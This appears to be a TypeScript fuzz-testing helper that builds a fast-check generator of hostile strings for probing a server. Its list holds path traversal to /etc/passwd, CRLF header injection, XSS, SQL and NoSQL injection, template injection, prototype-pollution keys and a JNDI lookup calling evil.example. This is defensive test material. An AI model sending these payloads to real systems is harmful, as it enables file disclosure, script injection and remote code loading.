import * as fc from 'fast-check';

/** Words that have broken other servers. */
const NASTY = [
  '',
  '__proto__',
  'constructor',
  'toString',
  '..',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/',
  '%252e%252e%252f',
  '..\\..\\windows',
  '%00',
  '%0d%0aSet-Cookie:a=b',
  '%ff%fe',
  '%c0%ae%c0%ae',
  '%',
  '%zz',
  '//evil.example',
  '/\\evil.example',
  'https://evil.example/',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '"\'><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  "' OR 1=1--",
  '$ne',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  '99999999999999999999999999',
  'NaN',
  '\u00e9\u00ff',
  'a'.repeat(300),
  '../'.repeat(60),
  '%F0%9F%92%A9',
  '\x00',
  '\x7f',
  '.data',
  '_.data',
  '.',
] as const;

/** A word to put where another is expected. */
export const nasty = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

/** Nothing that ends a line: a broken line is sent on purpose elsewhere. */
export function inLine(text: string): string {
  return text.replaceAll(/[\r\n]/g, '%0a').replaceAll(' ', '%20');
}
